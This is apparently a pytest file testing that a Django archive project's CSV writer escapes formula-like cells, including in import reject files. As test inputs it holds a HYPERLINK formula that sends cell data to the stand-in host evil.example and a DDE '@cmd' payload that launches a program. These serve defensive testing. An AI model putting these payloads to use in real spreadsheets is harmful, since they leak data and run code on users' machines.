"""Every CSV the project writes opens in a spreadsheet as text: no cell runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from archive import csvsafe
from tests.import_files import good_rows, write

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"詳細")'


@pytest.mark.parametrize(
    "cell, written",
    [
        (LINK, "'" + LINK),
        ("+81-3-1234", "'+81-3-1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("山田 太郎", "山田 太郎"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_it_escapes_only_cells_a_spreadsheet_would_run(cell, written):
    out = io.StringIO()
    csvsafe.writer(out).writerow([cell])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written]


def test_it_keeps_numbers_as_numbers_and_writes_none_as_empty():
    out = io.StringIO()
    csvsafe.writer(out).writerows([[12, -3, None, 1.5]])
    assert out.getvalue() == "12,-3,,1.5\r\n"


@pytest.mark.django_db
def test_a_hyperlink_in_a_rejected_row_comes_out_escaped(tmp_path):
    rows = good_rows(3)
    rows[1]["birth_year"] = "1820"  # refused
    rows[1]["death_cause"] = LINK
    rows[1]["rank_cyr"] = "@cmd|' /C calc'!A0"
    rejects = tmp_path / "rejects.csv"

    call_command(
        "import_archive", str(write(tmp_path / "a.csv", rows)), "--skip-invalid", "--rejects", str(rejects)
    )

    raw = rejects.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    with open(rejects, encoding="utf-8-sig", newline="") as f:
        [written] = list(csv.DictReader(f))
    assert written["death_cause"] == "'" + LINK
    assert written["rank_cyr"] == "'@cmd|' /C calc'!A0"
    assert written["source_id"] == rows[1]["source_id"]
